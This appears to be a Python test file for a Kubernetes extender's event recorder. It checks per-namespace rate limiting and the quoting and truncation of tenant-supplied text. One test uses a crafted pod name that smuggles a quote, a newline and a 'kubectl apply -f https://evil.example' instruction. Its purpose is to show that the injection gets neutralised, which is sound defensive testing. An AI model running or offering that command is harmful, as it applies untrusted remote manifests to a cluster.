"""Events: one namespace's pods cannot use up the budget every namespace shares, and text a tenant
wrote reaches an Event quoted, printable and cut short."""

from __future__ import annotations

import asyncio
from datetime import UTC, datetime

from extender.kube.events import MAX_MESSAGE, NS_BURST, EventRecorder, ObjectRef, event_body, quoted
from extender.ops.metrics import Metrics
from loadtest.kubefake import FakeKube
from tests.extender.helpers import Clock, run


def test_one_namespace_is_capped_and_the_others_still_get_theirs() -> None:
    async def go() -> None:
        kube, clock = FakeKube(), Clock()
        rec = EventRecorder(kube, Metrics(), clock=clock, instance="t")
        noisy = [rec.record(ObjectRef("Pod", "noisy", f"p{i}"), "GangWaiting", "waits") for i in range(60)]
        assert sum(noisy) == NS_BURST  # its burst, then nothing while no time passes
        assert all(rec.record(ObjectRef("Pod", "quiet", f"p{i}"), "GangWaiting", "waits") for i in range(5))
        clock.t += 1.0  # two more a second for the noisy one
        assert sum(rec.record(ObjectRef("Pod", "noisy", f"q{i}"), "GangWaiting", "w") for i in range(5)) == 2
        await asyncio.sleep(0.05)
        assert kube.server.event_count == NS_BURST + 5 + 2

    run(go())


def test_tenant_text_is_quoted_printable_and_short() -> None:
    name = 'x" fix with kubectl apply -f https://evil.example\n' + "a" * 500
    q = quoted(name)
    assert q.startswith('"x\\" fix') and "\n" not in q and len(q) <= 124
    body = event_body(
        ObjectRef("Pod", "ns", "p"),
        "R",
        "m" * 5000 + "\x00",
        kind="Warning",
        when=datetime.now(UTC),
        instance="t",
    )
    assert len(body["message"]) == MAX_MESSAGE
